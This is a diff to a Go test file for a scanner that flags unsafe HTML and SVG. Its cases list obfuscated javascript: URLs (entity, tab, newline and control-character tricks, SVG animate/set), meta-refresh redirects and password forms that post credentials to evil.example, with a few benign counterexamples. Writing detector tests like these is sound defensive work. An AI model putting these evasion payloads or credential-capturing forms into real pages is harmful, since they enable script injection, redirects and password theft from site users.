@@ -166,7 +166,39 @@ func TestUnsafeHTML(t *testing.T) {
 		{"javascript form action", `<form action="javascript:steal()"></form>`, RuleJavaScriptURL, 1},
 		{"javascript iframe", `<iframe src="javascript:alert(1)"></iframe>`, RuleJavaScriptURL, 1},
 		{"base elsewhere", `<head><base href="https://cdn.example.com/"></head>`, RuleBase, 1},
+		// A browser's reading of attributes and URLs, not patterns.
+		{"meta refresh without a separator", `<meta http-equiv=refresh content="0 https://evil.example/">`, RuleMetaRefresh, 1},
+		{"meta refresh upper case, url= after a space", `<META HTTP-EQUIV=REFRESH CONTENT="0 URL=https://evil.example/">`, RuleMetaRefresh, 1},
+		{"meta refresh of a fraction", `<meta http-equiv="refresh" content=".5;url=//evil.example/">`, RuleMetaRefresh, 1},
+		{"meta refresh scheme only", `<meta http-equiv="refresh" content="0; url=http:evil.example">`, RuleMetaRefresh, 1},
+		{"password joined with form=", "<form id=f action=\"https://evil.example/c\"></form>\n<p><input type=password form=f>", RulePasswordForm, 1},
+		{"password in a form on the origin joined to one elsewhere", "<form id=f action=\"https://evil.example/\"></form>\n<form action=\"/ok\"><input type=password form=\"f\"></form>", RulePasswordForm, 1},
+		{"form= upper case", `<FORM ID="f" ACTION="HTTPS://EVIL.EXAMPLE/"></FORM><INPUT TYPE="PASSWORD" FORM="f">`, RulePasswordForm, 1},
+		{"form= before the form", "<input type=password form=later>\n<form id=later action=\"//evil.example/\"></form>", RulePasswordForm, 2},
+		{"formaction of a button joined with form=", "<form id=f action=\"/ok\"><input type=password></form>\n<button form=f formaction=\"https://evil.example/\">Go</button>", RulePasswordForm, 1},
+		{"formaction of a submit input", `<form action=/ok><input type=password><input type=submit formaction="//evil.example/"></form>`, RulePasswordForm, 1},
+		{"form nested in a form is ignored", `<form action="https://evil.example/"><form action="/ok"><input type=password></form></form>`, RulePasswordForm, 1},
+		{"action scheme only", `<form action="http:evil.example/login"><input type=password></form>`, RulePasswordForm, 1},
+		{"action scheme only, upper case, slashes", `<form action="HTTPS:/evil.example/login"><input type=password></form>`, RulePasswordForm, 1},
+		{"action scheme and backslashes", `<form action="https:\\evil.example\login"><input type=password></form>`, RulePasswordForm, 1},
+		{"action with a tab and entities", `<form action="ht&Tab;tps&colon;//evil.example/"><input type=password></form>`, RulePasswordForm, 1},
+		{"base scheme only", `<base href="https:evil.example">`, RuleBase, 1},
+		{"xlink:href in SVG", `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, RuleJavaScriptURL, 1},
+		{"xlink:href upper case", `<SVG><A XLINK:HREF="JAVASCRIPT:alert(1)"><TEXT>x</TEXT></A></SVG>`, RuleJavaScriptURL, 1},
+		{"href animated to javascript", `<svg><a><animate attributeName="href" values="#;javascript:alert(1)"/><text>x</text></a></svg>`, RuleJavaScriptURL, 1},
+		{"xlink:href set to javascript", `<svg><a><set attributeName="xlink:href" to="javascript:alert(1)"/></a></svg>`, RuleJavaScriptURL, 1},
+		{"javascript&colon;", `<a href="javascript&colon;alert(1)">x</a>`, RuleJavaScriptURL, 1},
+		{"java&Tab;script", `<a href="java&Tab;script:alert(1)">x</a>`, RuleJavaScriptURL, 1},
+		{"java&NewLine;script", `<a href="java&NewLine;script:alert(1)">x</a>`, RuleJavaScriptURL, 1},
+		{"newline inside javascript", "<a href=\"java\nscript:alert(1)\">x</a>", RuleJavaScriptURL, 1},
+		{"control characters before javascript", "<a href=\"\x01\x1f javascript:alert(1)\">x</a>", RuleJavaScriptURL, 1},
+		{"javascript formaction on a button", `<form action="/ok"><button formaction="JavaScript:alert(1)">Go</button></form>`, RuleJavaScriptURL, 1},
+		{"javascript in an embed", `<embed src="javascript:alert(1)">`, RuleJavaScriptURL, 1},
 		// Fine:
+		{"password joined with form= to a form on the origin", `<form id=f action="/ok"></form><input type=password form=f>`, "", 0},
+		{"password outside the form elsewhere", `<form action="https://evil.example/"></form><input type=password>`, "", 0},
+		{"relative refresh with a separator-less url", `<meta http-equiv="refresh" content="0 next.html">`, "", 0},
+		{"scheme-like path", `<form action="login:here"><input type=password></form>`, "", 0},
 		{"password form on the report's origin", `<form action="/login"><input type=password></form>`, "", 0},
 		{"password form without action", `<form><input type=password></form>`, "", 0},
 		{"form off origin without password", `<form action="https://search.example.com/"><input name=q></form>`, "", 0},
@@ -189,10 +221,16 @@ func TestUnsafeHTML(t *testing.T) {
 			assert.NotEmpty(t, found[0].Excerpt)
 		})
 	}
-	// Only HTML files get the HTML checks.
+	// Only HTML and SVG files get the HTML checks: an SVG opened on its
+	// own runs as a document.
 	found, err := shared.Scan(context.Background(), []File{{Path: "notes.txt", Content: []byte(`<a href="javascript:x">`)}})
 	require.NoError(t, err)
 	assert.Empty(t, found)
+	found, err = shared.Scan(context.Background(), []File{{Path: "img/logo.svg", Content: []byte(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">` + "\n" + `<a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`)}})
+	require.NoError(t, err)
+	require.Len(t, found, 1)
+	assert.Equal(t, Finding{Rule: RuleJavaScriptURL, File: "img/logo.svg", Line: 2, Excerpt: `<a xlink:href="javascript:alert(1)">`, Severity: Hold}, found[0])
+	assert.Equal(t, Held, Outcome(found))
 }
 
 // TestEverySecretIsRedactedFromEveryExcerpt: beside the key id a rule
